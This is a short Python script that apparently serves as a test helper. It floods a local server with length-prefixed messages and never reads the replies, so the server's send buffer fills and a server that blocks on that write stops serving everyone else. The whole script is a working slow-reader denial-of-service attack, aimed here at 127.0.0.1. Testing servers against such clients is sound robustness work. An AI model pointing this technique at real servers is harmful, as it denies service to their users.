#!/usr/bin/env python3
"""attack.py PORT: one connection that makes the server useless for everybody else.

It sends messages and reads no answer. The answers fill its own receive buffer, then the server's send
buffer; then the server has an answer that nobody takes. A server that waits for that waits for us.

Prints `ready` when the attack is in place, and keeps it up until its standard input ends.
"""
import select
import socket
import struct
import sys

MOST = 32 << 20  # bytes to send: more than the buffers of both sides hold
PATIENCE = 0.5  # seconds in which the server takes nothing


def message(text: bytes) -> bytes:
    """u32 len, lowest byte first, and the text."""
    return struct.pack("<I", len(text)) + text


def main() -> None:
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # before connecting: a small window
        sock.connect(("127.0.0.1", int(sys.argv[1])))
        sock.setblocking(False)
        data = memoryview(message(b"x" * 4000) * 100)
        sent = 0
        while sent < MOST and select.select([], [sock], [], PATIENCE)[1]:
            sent += sock.send(data[sent % len(data) :])

        print("ready", flush=True)
        sys.stdin.read()


main()
